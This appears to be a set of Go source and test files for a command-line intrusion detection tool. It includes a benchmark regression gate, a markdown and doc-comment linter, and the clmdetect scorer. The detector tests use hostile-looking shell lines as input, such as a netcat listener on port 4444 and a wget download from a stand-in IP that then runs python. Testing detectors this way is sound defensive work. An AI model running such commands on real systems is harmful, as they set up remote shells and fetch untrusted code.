		e, ok := rep.Benchmarks[name]
		if !ok {
			t.Fatalf("missing %s", name)
		}
		if e.LinesPerSec != lps {
			t.Fatalf("%s: %g lines/s, want %g", name, e.LinesPerSec, lps)
		}
		if e.Iters != 3 {
			t.Fatalf("%s: iters %d, want 3", name, e.Iters)
		}
	}
	if _, err := parseBench(strings.NewReader("PASS\nok x 1s\n")); err == nil {
		t.Fatal("empty bench output parsed without error")
	}
}

func TestStripProcs(t *testing.T) {
	for in, want := range map[string]string{
		"BenchmarkStreamingThroughput-4":        "BenchmarkStreamingThroughput",
		"BenchmarkShardedThroughput/shards=4-8": "BenchmarkShardedThroughput/shards=4",
		"BenchmarkNoSuffix":                     "BenchmarkNoSuffix",
		"Benchmark-x-2":                         "Benchmark-x",
	} {
		if got := stripProcs(in); got != want {
			t.Fatalf("stripProcs(%q) = %q, want %q", in, got, want)
		}
	}
}

func report(vals map[string]float64) Report {
	rep := Report{Benchmarks: map[string]Entry{}}
	for name, v := range vals {
		rep.Benchmarks[name] = Entry{LinesPerSec: v, Iters: 3}
	}
	return rep
}

func TestCompareGate(t *testing.T) {
	base := report(map[string]float64{
		"BenchmarkStreamingThroughput": 200000,
		"BenchmarkInferenceThroughput": 800000,
	})

	// Within tolerance (19% drop at 20% gate): pass.
	okPR := report(map[string]float64{
		"BenchmarkStreamingThroughput": 162000,
		"BenchmarkInferenceThroughput": 100, // not gated, may crater freely
	})
	summary, err := compareReports(base, okPR, "BenchmarkStreamingThroughput", 0.20)
	if err != nil {
		t.Fatalf("19%% drop failed a 20%% gate (%v):\n%s", err, summary)
	}
	if !strings.Contains(summary, "OK:") || !strings.Contains(summary, "<- gate") {
		t.Fatalf("summary lacks verdict/gate marker:\n%s", summary)
	}

	// Beyond tolerance: fail with the named regression error.
	badPR := report(map[string]float64{"BenchmarkStreamingThroughput": 150000})
	summary, err = compareReports(base, badPR, "BenchmarkStreamingThroughput", 0.20)
	if !errors.Is(err, ErrRegression) {
		t.Fatalf("25%% drop: err %v, want ErrRegression:\n%s", err, summary)
	}

	// Faster never fails.
	fastPR := report(map[string]float64{"BenchmarkStreamingThroughput": 900000})
	if _, err := compareReports(base, fastPR, "BenchmarkStreamingThroughput", 0.20); err != nil {
		t.Fatalf("speedup failed the gate: %v", err)
	}
}

func TestCompareOneSidedBenchmarks(t *testing.T) {
	base := report(map[string]float64{
		"BenchmarkStreamingThroughput": 200000,
		"BenchmarkRemoved":             1000,
	})
	pr := report(map[string]float64{
		"BenchmarkStreamingThroughput": 210000,
		"BenchmarkAdded":               5000,
	})

	// One-sided non-gated benchmarks are reported, not silently dropped,
	// and do not fail the gate.
	summary, err := compareReports(base, pr, "BenchmarkStreamingThroughput", 0.20)
	if err != nil {
		t.Fatalf("one-sided non-gated benchmarks failed the gate: %v", err)
	}
	if !strings.Contains(summary, "BenchmarkRemoved") || !strings.Contains(summary, "only in baseline") {
		t.Fatalf("summary does not name the baseline-only benchmark:\n%s", summary)
	}
	if !strings.Contains(summary, "BenchmarkAdded") || !strings.Contains(summary, "only in PR") {
		t.Fatalf("summary does not name the PR-only benchmark:\n%s", summary)
	}

	// A gated benchmark present in only one report is the named missing
	// error — not a zero-division, not a silent pass.
	_, err = compareReports(base, report(map[string]float64{"Other": 1}), "BenchmarkStreamingThroughput", 0.20)
	if !errors.Is(err, ErrBenchMissing) {
		t.Fatalf("missing gated benchmark: err %v, want ErrBenchMissing", err)
	}
	_, err = compareReports(report(map[string]float64{"Other": 1}), pr, "BenchmarkStreamingThroughput", 0.20)
	if !errors.Is(err, ErrBenchMissing) {
		t.Fatalf("gate absent from baseline: err %v, want ErrBenchMissing", err)
	}

	// A zero (or negative/NaN-ish) baseline would make the ratio
	// meaningless and the one-sided gate trivially pass — named error.
	zeroBase := report(map[string]float64{"BenchmarkStreamingThroughput": 0})
	summary, err = compareReports(zeroBase, pr, "BenchmarkStreamingThroughput", 0.20)
	if !errors.Is(err, ErrZeroBaseline) {
		t.Fatalf("zero baseline: err %v, want ErrZeroBaseline:\n%s", err, summary)
	}
	if !strings.Contains(summary, "n/a") {
		t.Fatalf("zero-baseline row should render n/a, not a division:\n%s", summary)
	}
}
