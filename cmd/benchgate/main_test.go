package main

import (
	"strings"
	"testing"
)

const sampleBenchOutput = `goos: linux
goarch: amd64
pkg: clmids
cpu: Intel(R) Xeon(R) Processor @ 2.10GHz
BenchmarkInferenceThroughput-4         	       3	   1136000 ns/op	    880000 lines/s	     120 B/op	       2 allocs/op
BenchmarkInferenceThroughputCold-4     	       3	  46900000 ns/op	     21300 lines/s	 8000000 B/op	   90000 allocs/op
BenchmarkStreamingThroughput-4         	       3	   4273000 ns/op	    234000 lines/s	 1000000 B/op	    3000 allocs/op
BenchmarkShardedThroughput/shards=1-4  	       3	   2348540 ns/op	    425797 lines/s	 1026482 B/op	    3182 allocs/op
BenchmarkShardedThroughput/shards=4-4  	       3	   1148329 ns/op	    870629 lines/s	 1335912 B/op	    3707 allocs/op
BenchmarkNoMetric-4                    	     100	     10000 ns/op
PASS
ok  	clmids	9.063s
`

func TestParseBench(t *testing.T) {
	rep, err := parseBench(strings.NewReader(sampleBenchOutput))
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]float64{
		"BenchmarkInferenceThroughput":        880000,
		"BenchmarkInferenceThroughputCold":    21300,
		"BenchmarkStreamingThroughput":        234000,
		"BenchmarkShardedThroughput/shards=1": 425797,
		"BenchmarkShardedThroughput/shards=4": 870629,
	}
	if len(rep.Benchmarks) != len(want) {
		t.Fatalf("parsed %d benchmarks, want %d: %+v", len(rep.Benchmarks), len(want), rep.Benchmarks)
	}
	for name, lps := range want {
		e, ok := rep.Benchmarks[name]
		if !ok {
			t.Fatalf("missing %s", name)
		}
		if e.LinesPerSec != lps {
			t.Fatalf("%s: %g lines/s, want %g", name, e.LinesPerSec, lps)
		}
		if e.Iters != 3 {
			t.Fatalf("%s: iters %d, want 3", name, e.Iters)
		}
	}
	if _, err := parseBench(strings.NewReader("PASS\nok x 1s\n")); err == nil {
		t.Fatal("empty bench output parsed without error")
	}
}

func TestStripProcs(t *testing.T) {
	for in, want := range map[string]string{
		"BenchmarkStreamingThroughput-4":        "BenchmarkStreamingThroughput",
		"BenchmarkShardedThroughput/shards=4-8": "BenchmarkShardedThroughput/shards=4",
		"BenchmarkNoSuffix":                     "BenchmarkNoSuffix",
		"Benchmark-x-2":                         "Benchmark-x",
	} {
		if got := stripProcs(in); got != want {
			t.Fatalf("stripProcs(%q) = %q, want %q", in, got, want)
		}
	}
}

func report(vals map[string]float64) Report {
	rep := Report{Benchmarks: map[string]Entry{}}
	for name, v := range vals {
		rep.Benchmarks[name] = Entry{LinesPerSec: v, Iters: 3}
	}
	return rep
}

func TestCompareGate(t *testing.T) {
	base := report(map[string]float64{
		"BenchmarkStreamingThroughput": 200000,
		"BenchmarkInferenceThroughput": 800000,
	})

	// Within tolerance (19% drop at 20% gate): pass.
	okPR := report(map[string]float64{
		"BenchmarkStreamingThroughput": 162000,
		"BenchmarkInferenceThroughput": 100, // not gated, may crater freely
	})
	summary, ok := compareReports(base, okPR, "BenchmarkStreamingThroughput", 0.20)
	if !ok {
		t.Fatalf("19%% drop failed a 20%% gate:\n%s", summary)
	}
	if !strings.Contains(summary, "OK:") || !strings.Contains(summary, "<- gate") {
		t.Fatalf("summary lacks verdict/gate marker:\n%s", summary)
	}

	// Beyond tolerance: fail.
	badPR := report(map[string]float64{"BenchmarkStreamingThroughput": 150000})
	summary, ok = compareReports(base, badPR, "BenchmarkStreamingThroughput", 0.20)
	if ok {
		t.Fatalf("25%% drop passed a 20%% gate:\n%s", summary)
	}
	if !strings.Contains(summary, "FAIL:") {
		t.Fatalf("failing summary lacks FAIL:\n%s", summary)
	}

	// Faster never fails.
	fastPR := report(map[string]float64{"BenchmarkStreamingThroughput": 900000})
	if _, ok := compareReports(base, fastPR, "BenchmarkStreamingThroughput", 0.20); !ok {
		t.Fatal("speedup failed the gate")
	}

	// A missing gated benchmark fails loudly.
	if _, ok := compareReports(base, report(map[string]float64{"Other": 1}), "BenchmarkStreamingThroughput", 0.20); ok {
		t.Fatal("missing gated benchmark passed")
	}
}
