package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writeTree(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, body := range files {
		path := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func TestLintDocsFlagsBrokenLinksAndMissingDocs(t *testing.T) {
	root := writeTree(t, map[string]string{
		"README.md": "see [design](docs/DESIGN.md), [gone](docs/MISSING.md), " +
			"[anchor](docs/DESIGN.md#sec), [site](https://example.com/x.md), [self](#top)\n",
		"docs/DESIGN.md": "back to [readme](../README.md)\n",
		"pkg/pkg.go": "// Package pkg is linted.\npackage pkg\n\n" +
			"// Documented is fine.\nfunc Documented() {}\n\n" +
			"func Undocumented() {}\n\n" +
			"type hidden struct{}\n\n" +
			"func (hidden) Exported() {}\n", // unexported receiver: not linted
		"pkg/pkg_test.go": "package pkg\n\nfunc TestOnly() {}\n",
	})
	problems, err := lintDocs(root)
	if err != nil {
		t.Fatal(err)
	}
	joined := strings.Join(problems, "\n")
	if len(problems) != 2 {
		t.Fatalf("want exactly 2 problems, got %d:\n%s", len(problems), joined)
	}
	if !strings.Contains(joined, "MISSING.md") {
		t.Errorf("broken link not flagged:\n%s", joined)
	}
	if !strings.Contains(joined, "Undocumented") {
		t.Errorf("undocumented export not flagged:\n%s", joined)
	}
	for _, never := range []string{"Documented", "example.com", "TestOnly", "Exported"} {
		if strings.Contains(joined, never) {
			t.Errorf("false positive on %s:\n%s", never, joined)
		}
	}
}

func TestLintDocsCleanTree(t *testing.T) {
	root := writeTree(t, map[string]string{
		"README.md":    "[ok](sub/OTHER.md)\n",
		"sub/OTHER.md": "// grouped decls count as documented via the group comment\n",
		"pkg/pkg.go": "// Package pkg is linted.\npackage pkg\n\n" +
			"// Grouped constants share one doc comment.\nconst (\n\tA = 1\n\tB = 2\n)\n",
	})
	problems, err := lintDocs(root)
	if err != nil {
		t.Fatal(err)
	}
	if len(problems) != 0 {
		t.Fatalf("clean tree flagged: %v", problems)
	}
}
