package main

// Docs mode (-docs): the documentation gate for CI. It enforces the two
// invariants that keep a growing repo's prose trustworthy without manual
// review: every intra-repo markdown link resolves to a file that exists,
// and every exported Go identifier carries a doc comment. Both rot
// silently — a renamed file breaks the README's quickstart, an undocumented
// export breaks godoc — and both are mechanical to check.

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
)

// mdLink matches the target of an inline markdown link or image,
// [text](target); reference-style links are not used in this repo.
var mdLink = regexp.MustCompile(`\]\(([^)\s]+)\)`)

// lintDocs walks the repo at root and returns one problem per violation:
// a relative markdown link whose target does not exist, or an exported Go
// identifier without a doc comment. Problems are sorted by file for stable
// CI output.
func lintDocs(root string) ([]string, error) {
	var mdFiles, goDirs []string
	seenDir := map[string]bool{}
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() {
			if d.Name() == ".git" || d.Name() == "testdata" {
				return filepath.SkipDir
			}
			return nil
		}
		switch {
		case strings.HasSuffix(path, ".md"):
			mdFiles = append(mdFiles, path)
		case strings.HasSuffix(path, ".go") && !strings.HasSuffix(path, "_test.go"):
			if dir := filepath.Dir(path); !seenDir[dir] {
				seenDir[dir] = true
				goDirs = append(goDirs, dir)
			}
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	var problems []string
	for _, md := range mdFiles {
		ps, err := lintMarkdownLinks(md)
		if err != nil {
			return nil, err
		}
		problems = append(problems, ps...)
	}
	for _, dir := range goDirs {
		ps, err := lintGoDocs(dir)
		if err != nil {
			return nil, err
		}
		problems = append(problems, ps...)
	}
	sort.Strings(problems)
	return problems, nil
}

// lintMarkdownLinks checks every relative link target in one markdown file
// against the filesystem. External URLs (any scheme), mailto links, and
// pure in-page anchors are out of scope; a #fragment on a file link is
// stripped before the existence check.
func lintMarkdownLinks(path string) ([]string, error) {
	raw, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var problems []string
	for _, m := range mdLink.FindAllStringSubmatch(string(raw), -1) {
		target := m[1]
		if strings.Contains(target, "://") || strings.HasPrefix(target, "mailto:") || strings.HasPrefix(target, "#") {
			continue
		}
		target, _, _ = strings.Cut(target, "#")
		if target == "" {
			continue
		}
		resolved := filepath.Join(filepath.Dir(path), filepath.FromSlash(target))
		if _, err := os.Stat(resolved); err != nil {
			problems = append(problems, fmt.Sprintf("%s: broken link %q (%s does not exist)", path, m[1], resolved))
		}
	}
	return problems, nil
}

// lintGoDocs parses one directory's non-test Go files and reports every
// exported identifier that lacks a doc comment. Grouped const/var/type
// declarations count as documented when the group itself has one; methods
// are linted only when both the method and its receiver type are exported.
func lintGoDocs(dir string) ([]string, error) {
	fset := token.NewFileSet()
	pkgs, err := parser.ParseDir(fset, dir, func(fi fs.FileInfo) bool {
		return !strings.HasSuffix(fi.Name(), "_test.go")
	}, parser.ParseComments)
	if err != nil {
		return nil, err
	}
	var problems []string
	report := func(pos token.Pos, kind, name string) {
		p := fset.Position(pos)
		problems = append(problems, fmt.Sprintf("%s:%d: exported %s %s has no doc comment", p.Filename, p.Line, kind, name))
	}
	for _, pkg := range pkgs {
		for _, file := range pkg.Files {
			for _, decl := range file.Decls {
				switch d := decl.(type) {
				case *ast.FuncDecl:
					if !d.Name.IsExported() || d.Doc != nil {
						continue
					}
					if recv := receiverTypeName(d.Recv); recv != "" && !ast.IsExported(recv) {
						continue
					}
					report(d.Pos(), "function", d.Name.Name)
				case *ast.GenDecl:
					for _, spec := range d.Specs {
						switch s := spec.(type) {
						case *ast.TypeSpec:
							if s.Name.IsExported() && d.Doc == nil && s.Doc == nil {
								report(s.Pos(), "type", s.Name.Name)
							}
						case *ast.ValueSpec:
							for _, name := range s.Names {
								if name.IsExported() && d.Doc == nil && s.Doc == nil {
									report(name.Pos(), "value", name.Name)
								}
							}
						}
					}
				}
			}
		}
	}
	return problems, nil
}

// receiverTypeName unwraps a method receiver down to its base type name;
// "" for plain functions.
func receiverTypeName(recv *ast.FieldList) string {
	if recv == nil || len(recv.List) == 0 {
		return ""
	}
	t := recv.List[0].Type
	for {
		switch v := t.(type) {
		case *ast.StarExpr:
			t = v.X
		case *ast.IndexExpr:
			t = v.X
		case *ast.IndexListExpr:
			t = v.X
		case *ast.Ident:
			return v.Name
		default:
			return ""
		}
	}
}
