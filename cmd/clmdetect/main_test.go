package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"clmids/internal/core"
	"clmids/internal/corpus"
)

// buildFixture trains and saves a tiny pipeline plus a baseline log.
func buildFixture(t *testing.T) (modelDir, dataPath string) {
	t.Helper()
	dir := t.TempDir()
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 500
	ccfg.TestLines = 50
	ccfg.IntrusionRate = 0.2
	train, _, err := corpus.Generate(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	dataPath = filepath.Join(dir, "train.jsonl")
	f, err := os.Create(dataPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := train.WriteJSONL(f); err != nil {
		t.Fatal(err)
	}
	f.Close()

	pcfg := core.TinyExperiment().Pipeline
	pcfg.Pretrain.Epochs = 1
	pl, err := core.BuildPipeline(train.Lines(), pcfg)
	if err != nil {
		t.Fatal(err)
	}
	modelDir = filepath.Join(dir, "model")
	if err := pl.SaveDir(modelDir); err != nil {
		t.Fatal(err)
	}
	return modelDir, dataPath
}

func TestDetectMethods(t *testing.T) {
	modelDir, dataPath := buildFixture(t)
	input := filepath.Join(t.TempDir(), "lines.txt")
	err := os.WriteFile(input, []byte("nc -lvnp 4444\nls -la /srv\n"), 0o644)
	if err != nil {
		t.Fatal(err)
	}
	for _, method := range []string{"classifier", "retrieval", "pca"} {
		err := run([]string{
			"-model", modelDir, "-baseline", dataPath,
			"-method", method, "-input", input, "-top", "2", "-epochs", "3",
		})
		if err != nil {
			t.Errorf("method %s: %v", method, err)
		}
	}
}

func TestDetectRejectsUnknownMethod(t *testing.T) {
	modelDir, dataPath := buildFixture(t)
	err := run([]string{"-model", modelDir, "-baseline", dataPath, "-method", "nope", "-input", dataPath})
	if err == nil || !strings.Contains(err.Error(), "unknown method") {
		t.Fatalf("unexpected error: %v", err)
	}
}

func TestReadInputJSONLAndPlain(t *testing.T) {
	dir := t.TempDir()
	jsonl := filepath.Join(dir, "x.jsonl")
	os.WriteFile(jsonl, []byte(`{"line":"ls -la","label":"benign"}`+"\n"), 0o644)
	lines, err := readInput(jsonl)
	if err != nil || len(lines) != 1 || lines[0] != "ls -la" {
		t.Fatalf("jsonl input: %v %v", lines, err)
	}
	plain := filepath.Join(dir, "x.txt")
	os.WriteFile(plain, []byte("cat /etc/hosts\n\ndf -h\n"), 0o644)
	lines, err = readInput(plain)
	if err != nil || len(lines) != 2 {
		t.Fatalf("plain input: %v %v", lines, err)
	}
}
