package main

import (
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"clmids/internal/core"
	"clmids/internal/corpus"
)

// fixture trains and saves a tiny pipeline plus a baseline log once,
// shared across the command tests.
type fixture struct {
	dir      string
	modelDir string
	dataPath string
}

var (
	fixOnce sync.Once
	fix     fixture
	fixErr  error
)

// TestMain removes the shared fixture directory (a t.TempDir would be
// torn down when its creating test ends, breaking the sync.Once sharing).
func TestMain(m *testing.M) {
	code := m.Run()
	if fix.dir != "" {
		os.RemoveAll(fix.dir)
	}
	os.Exit(code)
}

func buildFixture(t *testing.T) (modelDir, dataPath string) {
	t.Helper()
	fixOnce.Do(func() {
		dir, err := os.MkdirTemp("", "clmdetect-fixture-")
		if err != nil {
			fixErr = err
			return
		}
		fix.dir = dir
		ccfg := corpus.DefaultConfig()
		ccfg.TrainLines = 500
		ccfg.TestLines = 50
		ccfg.IntrusionRate = 0.2
		train, _, err := corpus.Generate(ccfg)
		if err != nil {
			fixErr = err
			return
		}
		fix.dataPath = filepath.Join(dir, "train.jsonl")
		f, err := os.Create(fix.dataPath)
		if err != nil {
			fixErr = err
			return
		}
		if fixErr = train.WriteJSONL(f); fixErr != nil {
			return
		}
		f.Close()

		pcfg := core.TinyExperiment().Pipeline
		pcfg.Pretrain.Epochs = 1
		pl, err := core.BuildPipeline(train.Lines(), pcfg)
		if err != nil {
			fixErr = err
			return
		}
		fix.modelDir = filepath.Join(dir, "model")
		fixErr = pl.SaveDir(fix.modelDir)
	})
	if fixErr != nil {
		t.Fatalf("fixture: %v", fixErr)
	}
	return fix.modelDir, fix.dataPath
}

func TestDetectMethods(t *testing.T) {
	modelDir, dataPath := buildFixture(t)
	input := filepath.Join(t.TempDir(), "lines.txt")
	err := os.WriteFile(input, []byte("nc -lvnp 4444\nls -la /srv\n"), 0o644)
	if err != nil {
		t.Fatal(err)
	}
	for _, method := range []string{"classifier", "retrieval", "pca"} {
		err := run([]string{
			"-model", modelDir, "-baseline", dataPath,
			"-method", method, "-input", input, "-top", "2", "-epochs", "3",
		})
		if err != nil {
			t.Errorf("method %s: %v", method, err)
		}
	}
}

func TestDetectRejectsUnknownMethod(t *testing.T) {
	// The typo is rejected up front — no model directory is even opened, so
	// a bogus -model path never gets the chance to mask the method error.
	err := run([]string{"-model", "/nonexistent", "-baseline", "/nonexistent", "-method", "nope", "-input", "-"})
	if err == nil || !strings.Contains(err.Error(), "unknown method") ||
		!strings.Contains(err.Error(), "retrieval") {
		t.Fatalf("unexpected error: %v", err)
	}
}

// TestDetectFromBundle: batch and follow mode cold-start from a bundle —
// no -baseline flag, no tuning — and batch scores match the bundle's
// scorer exactly.
func TestDetectFromBundle(t *testing.T) {
	modelDir, dataPath := buildFixture(t)
	pl, err := core.LoadPipeline(modelDir)
	if err != nil {
		t.Fatal(err)
	}
	baseLines, err := readBaseline(dataPath)
	if err != nil {
		t.Fatal(err)
	}
	bs, err := core.BuildScorerFull(pl, core.ScorerConfig{Method: "pca"}, baseLines, nil)
	if err != nil {
		t.Fatal(err)
	}
	bundleDir := t.TempDir()
	if _, err := core.SaveBundle(bundleDir, pl, bs, "detect-test"); err != nil {
		t.Fatal(err)
	}

	input := filepath.Join(t.TempDir(), "lines.txt")
	if err := os.WriteFile(input, []byte("nc -lvnp 4444\nls -la /srv\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-bundle", bundleDir, "-input", input, "-top", "2"}); err != nil {
		t.Fatalf("batch from bundle: %v", err)
	}
	if err := run([]string{"-bundle", bundleDir, "-input", input, "-follow"}); err != nil {
		t.Fatalf("follow from bundle: %v", err)
	}
	if err := run([]string{"-bundle", filepath.Join(t.TempDir(), "absent"), "-input", input}); err == nil {
		t.Fatal("missing bundle accepted")
	}
}

func TestReadInputJSONLAndPlain(t *testing.T) {
	dir := t.TempDir()
	jsonl := filepath.Join(dir, "x.jsonl")
	os.WriteFile(jsonl, []byte(`{"line":"ls -la","label":"benign"}`+"\n"), 0o644)
	lines, err := readInput(jsonl)
	if err != nil || len(lines) != 1 || lines[0] != "ls -la" {
		t.Fatalf("jsonl input: %v %v", lines, err)
	}
	plain := filepath.Join(dir, "x.txt")
	os.WriteFile(plain, []byte("cat /etc/hosts\n\ndf -h\n"), 0o644)
	lines, err = readInput(plain)
	if err != nil || len(lines) != 2 {
		t.Fatalf("plain input: %v %v", lines, err)
	}
}

// TestReadInputReportsTrueLineNumbers: the JSONL stream is parsed once,
// so a malformed record names its actual position, not "line 1".
func TestReadInputReportsTrueLineNumbers(t *testing.T) {
	dir := t.TempDir()
	jsonl := filepath.Join(dir, "x.jsonl")
	body := `{"line":"ls","label":"benign"}` + "\n" +
		`{"line":"df -h","label":"benign"}` + "\n" +
		`{"line":"broken"` + "\n" + // malformed: line 3
		`{"line":"ps","label":"benign"}` + "\n"
	os.WriteFile(jsonl, []byte(body), 0o644)
	_, err := readInput(jsonl)
	if err == nil || !strings.Contains(err.Error(), "line 3") {
		t.Fatalf("malformed record error %v does not name line 3", err)
	}
}

// TestReadInputLargeJSONL: single-pass parsing holds beyond the peek
// buffer (the old per-line re-parse rebuilt a decoder per record).
func TestReadInputLargeJSONL(t *testing.T) {
	dir := t.TempDir()
	jsonl := filepath.Join(dir, "big.jsonl")
	var b strings.Builder
	for i := 0; i < 5000; i++ {
		b.WriteString(`{"line":"echo line`)
		b.WriteString(strings.Repeat("x", 20))
		b.WriteString(`","label":"benign"}` + "\n")
	}
	os.WriteFile(jsonl, []byte(b.String()), 0o644)
	lines, err := readInput(jsonl)
	if err != nil || len(lines) != 5000 {
		t.Fatalf("large jsonl: %d lines, %v", len(lines), err)
	}
}

// TestFollowMode streams both plain-text and JSONL input through the
// session-aware detector.
func TestFollowMode(t *testing.T) {
	modelDir, dataPath := buildFixture(t)
	dir := t.TempDir()

	plain := filepath.Join(dir, "tail.txt")
	os.WriteFile(plain, []byte("whoami\nwget -c http://203.0.113.9/7e31 -o python\npython\n"), 0o644)
	err := run([]string{
		"-model", modelDir, "-baseline", dataPath, "-method", "pca",
		"-follow", "-input", plain, "-context", "3", "-aggregation", "max",
	})
	if err != nil {
		t.Errorf("follow plain: %v", err)
	}

	// JSONL input carries its own users and timestamps.
	err = run([]string{
		"-model", modelDir, "-baseline", dataPath, "-method", "retrieval",
		"-follow", "-input", dataPath, "-session-threshold", "0.5",
	})
	if err != nil {
		t.Errorf("follow jsonl: %v", err)
	}
}

func TestFollowRejectsBadAggregation(t *testing.T) {
	modelDir, dataPath := buildFixture(t)
	err := run([]string{
		"-model", modelDir, "-baseline", dataPath, "-method", "pca",
		"-follow", "-aggregation", "bogus", "-input", dataPath,
	})
	if err == nil || !strings.Contains(err.Error(), "unknown aggregation") {
		t.Fatalf("bad aggregation: %v", err)
	}
}
