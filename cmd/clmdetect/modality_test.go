package main

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"clmids/internal/core"
)

// TestDetectRejectsUnknownModality: the typo fails in milliseconds with
// the registered list, before any artifact is opened.
func TestDetectRejectsUnknownModality(t *testing.T) {
	err := run([]string{"-model", "/nonexistent", "-modality", "syslog", "-input", "-"})
	if err == nil || !strings.Contains(err.Error(), "powershell") ||
		!strings.Contains(err.Error(), "flows") {
		t.Fatalf("unknown modality error does not list registered names: %v", err)
	}
}

// TestDetectModalityPin: -modality pins the artifact's log type — the
// matching pin passes on both the bundle and legacy paths, and a
// cross-modality pin is rejected with the typed mismatch error before a
// single line is scored.
func TestDetectModalityPin(t *testing.T) {
	modelDir, dataPath := buildFixture(t)
	pl, err := core.LoadPipeline(modelDir)
	if err != nil {
		t.Fatal(err)
	}
	baseLines, err := readBaseline(dataPath)
	if err != nil {
		t.Fatal(err)
	}
	bs, err := core.BuildScorerFull(pl, core.ScorerConfig{Method: "pca"}, baseLines, nil)
	if err != nil {
		t.Fatal(err)
	}
	bundleDir := t.TempDir()
	if _, err := core.SaveBundle(bundleDir, pl, bs, "pin-test"); err != nil {
		t.Fatal(err)
	}
	input := filepath.Join(t.TempDir(), "lines.txt")
	if err := os.WriteFile(input, []byte("ls -la /srv\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	if err := run([]string{"-bundle", bundleDir, "-modality", "shell", "-input", input}); err != nil {
		t.Fatalf("matching pin rejected a shell bundle: %v", err)
	}
	err = run([]string{"-bundle", bundleDir, "-modality", "flows", "-input", input})
	if !errors.Is(err, core.ErrModalityMismatch) {
		t.Fatalf("bundle path: error %v, want ErrModalityMismatch", err)
	}
	err = run([]string{"-model", modelDir, "-baseline", dataPath, "-method", "pca",
		"-modality", "flows", "-input", input})
	if !errors.Is(err, core.ErrModalityMismatch) {
		t.Fatalf("legacy path: error %v, want ErrModalityMismatch", err)
	}
}
