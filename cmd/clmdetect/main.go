// Command clmdetect scores command lines for intrusion likelihood with a
// trained pipeline (see clmtrain) and one of the paper's detection methods.
//
// Supervision comes from the simulated commercial IDS applied to a labeled
// baseline log; detection then generalizes beyond those rules.
//
// Batch usage:
//
//	clmdetect -model model/ -baseline data/train.jsonl \
//	          -method classifier -input data/test.jsonl -top 20
//
// With -bundle the scorer cold-starts from a versioned bundle emitted by
// clmtrain -bundle: no baseline log is read and no tuning runs — the
// bundle's manifest selects the method.
//
//	clmdetect -bundle bundle/ -input data/test.jsonl -top 20
//
// Streaming usage (-follow tails the input, scoring each line as it
// arrives through a session-aware detector; see internal/stream):
//
//	tail -F /var/log/commands.log | clmdetect -model model/ \
//	          -baseline data/train.jsonl -method retrieval -follow \
//	          -context 3 -session-threshold 0.8
//
// -input accepts a JSONL log or a plain-text file with one command line per
// line ("-" reads from stdin). In follow mode, JSONL records supply their
// own user and timestamp; plain-text lines are attributed to -user at
// wall-clock time.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"runtime"
	"sort"
	"strings"
	"time"

	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/modality"
	"clmids/internal/model"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "clmdetect:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("clmdetect", flag.ContinueOnError)
	bundle := fs.String("bundle", "", "scorer bundle directory (cold start: no baseline, no tuning; the manifest selects the method)")
	modelDir := fs.String("model", "model", "trained pipeline directory (ignored with -bundle)")
	baseline := fs.String("baseline", "train.jsonl", "labeled baseline log (JSONL) for supervision (ignored with -bundle)")
	method := fs.String("method", "classifier", "detection method: classifier | retrieval | reconstruction | pca (ignored with -bundle)")
	input := fs.String("input", "-", "lines to score: JSONL, plain text, or - for stdin")
	top := fs.Int("top", 20, "how many highest-scored lines to print (batch mode)")
	epochs := fs.Int("epochs", 8, "classifier tuning epochs")
	seed := fs.Int64("seed", 1, "tuning seed")
	precision := fs.String("precision", "", "serve-path precision: float64 | float32 | int8 (with -bundle the manifest decides unless this overrides)")
	cascade := fs.Bool("cascade", false, "score through the cascade: rarity pre-filter -> int8 triage -> f64 confirm (with -bundle the bundle must carry a cascade section; without, thresholds are calibrated from the baseline)")
	modalityPin := fs.String("modality", "", "expected log modality ("+modality.FlagHelp()+"): a bundle or pipeline trained for another modality is rejected; empty accepts whatever the artifact carries")
	follow := fs.Bool("follow", false, "stream mode: score lines as they arrive, with session aggregation")
	shards := fs.Int("shards", 1, "follow mode detector shards keyed by hash(user) (0 = GOMAXPROCS); follow mode scores line by line, so this costs a scorer replica per shard and buys parity with a sharded clmserve, not throughput")
	user := fs.String("user", "stdin", "user attributed to plain-text lines in follow mode")
	contextN := fs.Int("context", 1, "follow mode: session lines joined per scoring input (§IV-C)")
	aggregation := fs.String("aggregation", "decay", "follow mode session aggregation: max | mean | decay")
	lineThr := fs.Float64("line-threshold", 0, "follow mode per-line alert threshold (0 disables)")
	sessThr := fs.Float64("session-threshold", 0, "follow mode session alert threshold (0 disables)")
	idle := fs.Int64("idle-timeout", 1800, "follow mode session idle timeout in seconds")
	if err := fs.Parse(args); err != nil {
		return err
	}

	// "" follows the bundle manifest (float64 on the legacy path); an
	// explicit value is validated before anything loads.
	var prec model.Precision
	if *precision != "" {
		var err error
		if prec, err = model.ParsePrecision(*precision); err != nil {
			return err
		}
	}
	if *cascade && *precision != "" {
		return fmt.Errorf("-cascade and -precision are mutually exclusive: the cascade serves int8 triage with float64 confirm")
	}
	// A typoed modality fails here with the registered list, before the
